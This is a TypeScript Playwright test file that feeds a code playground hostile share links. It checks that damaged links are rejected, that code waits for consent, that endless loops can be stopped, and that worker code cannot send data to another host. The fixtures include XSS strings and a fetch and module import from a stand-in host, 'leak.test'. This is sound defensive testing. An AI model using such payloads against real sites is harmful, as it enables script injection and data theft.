// Opens hostile links of the playground in Chromium: damaged ones, JavaScript that must not run
// before a click, JavaScript that never ends, and JavaScript that would send data away.

import type { Browser } from "playwright-core";
import { fragmentOf, openPlayground, programText, runAndRead } from "./playground-page.ts";

const damaged: readonly string[] = [
  "#state=",
  "#state=%3Cscript%3Ealert(1)%3C/script%3E",
  "#state=<img src=x onerror=alert(1)>",
  `#state=${"A".repeat(70_000)}`,
  "#program=%E0%A4%A",
];

function stateWith(body: string): unknown {
  return {
    program: "(tool/mine {})",
    data: "",
    tools: [{ name: "mine", signature: "", kind: "javascript", body }],
  };
}

export async function hostileLinkProblems(
  browser: Browser,
  url: string,
): Promise<readonly string[]> {
  const problems = [
    ...(await damagedProblems(browser, url)),
    ...(await consentProblems(browser, url)),
    ...(await endlessProblems(browser, url)),
    ...(await leakProblems(browser, url)),
  ];
  return problems.map((problem) => `hostile link: ${problem}`);
}

async function damagedProblems(browser: Browser, url: string): Promise<readonly string[]> {
  const problems: string[] = [];
  for (const hash of damaged) {
    const opened = await openPlayground(browser, url, hash);
    const notice = await opened.page.locator(".notice").innerText();
    if (!notice.startsWith("The link is")) problems.push(`${hash.slice(0, 40)} shows "${notice}"`);
    problems.push(...opened.problems);
    await opened.close();
  }
  return problems;
}

/** Code that runs asks the server for `/ran`, which Chromium reports. */
async function consentProblems(browser: Browser, url: string): Promise<readonly string[]> {
  const hash = await fragmentOf(stateWith(`(fetch("${url}favicon.svg?ran"), () => "<b>ran</b>")`));
  const opened = await openPlayground(browser, url);
  const { page, problems } = opened;
  let runs = 0;
  page.on("request", (request) => {
    if (request.url().endsWith("?ran")) runs += 1;
  });
  await page.evaluate(`location.hash = ${JSON.stringify(hash)}`);
  await page.locator(".consent").waitFor({ timeout: 15_000 });
  const shown = await page.locator(".consent pre").innerText();
  if (!shown.includes("favicon.svg?ran")) problems.push("the consent doesn't show the code");
  if (await page.getByRole("button", { name: "Run", exact: true }).isEnabled())
    problems.push("the program can run before the consent");
  await page.locator(".cm-content").click();
  await page.keyboard.press("Control+Enter");
  // The check of the program has run once it shows the effects.
  await page.locator(".effects").waitFor({ timeout: 15_000 });
  if (runs > 0) problems.push("JavaScript runs before the consent");
  await page.getByRole("button", { name: "Allow this code" }).click();
  const { text } = await runAndRead(page);
  if (!text.includes("<b>ran</b>") || runs === 0) problems.push(`allowed code gives ${text}`);
  await opened.close();
  return problems;
}

async function endlessProblems(browser: Browser, url: string): Promise<readonly string[]> {
  const opened = await openPlayground(
    browser,
    url,
    await fragmentOf(stateWith("() => { for (;;); }")),
  );
  const { page, problems } = opened;
  await page.getByRole("button", { name: "Allow this code" }).click();
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByRole("button", { name: "Stop" }).click();
  const stopped = await page.locator(".playground-result .result").innerText();
  if (!stopped.includes("You stopped the run.")) problems.push(`Stop shows ${stopped}`);
  await page.getByRole("button", { name: "Remove", exact: true }).click();
  await page.locator(".cm-content").click();
  await page.keyboard.press("Control+A");
  await page.keyboard.insertText("(+ 1 2)");
  const { text } = await runAndRead(page);
  if (!text.startsWith("3")) problems.push(`after a stop, (+ 1 2) gives ${text}`);
  if ((await programText(page)) !== "(+ 1 2)") problems.push("a stop changes the program");
  await opened.close();
  return problems;
}

/** The policy of the page applies in the worker: no request to another host leaves it. */
async function leakProblems(browser: Browser, url: string): Promise<readonly string[]> {
  const problems: string[] = [];
  for (const body of [
    'async () => (await fetch("https://leak.test/?data")).status',
    'async () => (await import("https://leak.test/module.js")).default',
    '() => eval("1 + 1")',
  ]) {
    const opened = await openPlayground(browser, url, await fragmentOf(stateWith(body)));
    const sent: string[] = [];
    await opened.page.route("https://leak.test/**", (route) => {
      sent.push(route.request().url());
      return route.abort();
    });
    await opened.page.getByRole("button", { name: "Allow this code" }).click();
    const { isFailed } = await runAndRead(opened.page);
    if (sent.length > 0 || !isFailed) problems.push(`the policy allows ${body}`);
    await opened.close();
  }
  return problems;
}
